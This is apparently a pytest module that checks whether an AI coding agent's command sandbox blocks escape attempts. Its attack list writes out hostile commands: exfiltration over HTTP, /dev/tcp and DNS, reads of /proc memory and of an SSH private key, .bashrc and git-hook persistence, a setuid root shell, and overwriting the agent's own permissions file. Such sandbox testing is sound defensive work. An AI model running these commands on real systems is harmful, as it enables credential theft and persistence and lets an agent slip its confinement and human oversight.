"""A command that was agreed to, confined: what it sends, reads and writes beyond the repository."""

import contextlib
import os
import shlex
import socket
import sys

import pytest

from assistant.agent.command import run_command
from assistant.agent.confine import confinement
from tests.attacks.attack import Attack, Kind, Scene


def python(code: str) -> str:
    return f"{shlex.quote(sys.executable)} -c {shlex.quote(code)}"


HTTP = (
    "import urllib.request as r; "
    "r.build_opener(r.ProxyHandler({{}})).open('http://127.0.0.1:{port}/?hunter', timeout=3); print('SENT')"
)
SHELL = "bash -c 'echo hunter > /dev/tcp/127.0.0.1/{port} && echo SENT'"
DNS = "import socket; socket.getaddrinfo('aHVudGVy.example.org', 80); print('SENT')"
RAW_DNS = (
    "import socket; s = socket.socket(type=socket.SOCK_DGRAM); "
    "s.sendto(b'hunter', ('192.0.2.1', 53)); print('SENT')"
)
UNIX = "import socket; s = socket.socket(socket.AF_UNIX); s.connect('{home}/agent'); print('SENT')"
ABSTRACT = "import socket; s = socket.socket(socket.AF_UNIX); s.connect('\\0attack'); print('SENT')"
ENVIRONMENT = "open('/proc/{pid}/environ').read(); print('SENT')"
MEMORY = "open('/proc/{pid}/mem', 'rb').close(); print('SENT')"
ATTACHED = "import ctypes; assert ctypes.CDLL(None).ptrace(16, {pid}, 0, 0) == 0; print('SENT')"
SIGNAL = "import os; os.kill({pid}, 0); print('SENT')"
INHERITED = "import os; assert any(os.path.exists(f'/dev/fd/{{n}}') for n in range(3, 4096)); print('SENT')"
PIPES = (
    "import glob; [open(each, 'wb', 0).close() for each in glob.glob('/proc/{pid}/fd/*')][0]; print('SENT')"
)
LIFELINE = (
    "import glob, os; pipe = lambda fd: os.readlink(fd) if os.path.islink(fd) else ''; "
    "own = pipe('/proc/self/fd/1'); "
    "found = [fd for fd in glob.glob('/proc/[0-9]*/fd/*') if 'pipe:' in pipe(fd) != own]; "
    "open(found[0], 'wb', 0); print('SENT')"
)
TERMINAL = "import fcntl; fcntl.ioctl(open('/dev/tty'), 0x5412, b'x'); print('SENT')"


def confined(scene: Scene, tried: str) -> str:
    """`tried` prints SENT where it succeeds."""
    way = confinement()
    if way.kind == "none" or not way.network:
        pytest.skip(f"no sandbox that cuts off the network: {way.kind}")
    with contextlib.ExitStack() as stack:
        server = stack.enter_context(socket.create_server(("127.0.0.1", 0)))
        for address in (str(scene.home / "agent"), "\0attack"):
            with contextlib.suppress(OSError):
                listener = stack.enter_context(socket.socket(socket.AF_UNIX))
                listener.bind(address)
                listener.listen()
        command = tried.format(port=server.getsockname()[1], home=scene.home, pid=os.getpid())
        ran = run_command(command, scene.root, timeout_s=20, confinement=way)
    assert "SENT" not in ran.output
    assert not ran.passed
    (scene.home / "agent").unlink(missing_ok=True)
    return f"it {ran.describe()}: {ran.output}"


CONFINED = Kind(
    "ways out of a confined command",
    confined,
    (
        Attack("HTTP", python(HTTP), "failed"),
        Attack("a look-up of a name", python(DNS), "failed"),
        Attack("a datagram to a name server", python(RAW_DNS), "failed"),
        Attack("the shell's own sockets", SHELL, "failed"),
        Attack("a socket of an agent", python(UNIX), "failed"),
        Attack("a socket without a file", python(ABSTRACT), "failed"),
        Attack("the environment of coder", python(ENVIRONMENT), "failed"),
        Attack("the memory of coder", python(MEMORY), "failed"),
        Attack("the execution of coder", python(ATTACHED), "failed"),
        Attack("a signal to coder", python(SIGNAL), "failed"),
        Attack("what coder has open", python(INHERITED), "failed"),
        Attack("the pipes of what started it", python(PIPES), "failed"),
        Attack("the pipe that ends it with coder", python(LIFELINE), "failed"),
        Attack("what the user will type", python(TERMINAL), "failed"),
        Attack("the shell's start", "echo touch pwned >> {home}/.bashrc && echo SENT", "failed"),
        Attack("a key", "cat {home}/.ssh/id_rsa && echo SENT", "failed"),
        Attack("a hook", "mkdir -p .git/hooks && echo x > .git/hooks/pre-commit && echo SENT", "failed"),
        Attack("git's settings", "git config core.fsmonitor 'touch pwned' && echo SENT", "failed"),
        Attack("another time for the machine", "date -s '2001-01-01' && echo SENT", "failed"),
        Attack("a file that runs as root", "cp /bin/sh src/sh && chown 0:0 src/sh && chmod 4755 src/sh && "
               "chown 12345 src/sh && echo SENT", "failed"),
        Attack("coder's permissions", "echo {{}} > $CODER_HOME/data/permissions && echo SENT", "failed"),
    ),
)  # fmt: skip


def separate(scene: Scene, tried: str) -> str:
    """`.git` is a file, and git's folder lies in the repository under another name."""
    (scene.root / ".git").rename(scene.root / "meta")
    (scene.root / ".git").write_text("gitdir: meta\n")
    (scene.root / "meta" / "hooks").mkdir()
    scene.arranged()
    return confined(scene, tried)


SEPARATE = Kind(
    "ways into git's folder under another name",
    separate,
    (
        Attack("a hook", "echo x > meta/hooks/pre-commit && echo SENT", "failed"),
        Attack("the pointer", "echo 'gitdir: src' > .git && echo SENT", "failed"),
    ),
)
KINDS = (CONFINED, SEPARATE)
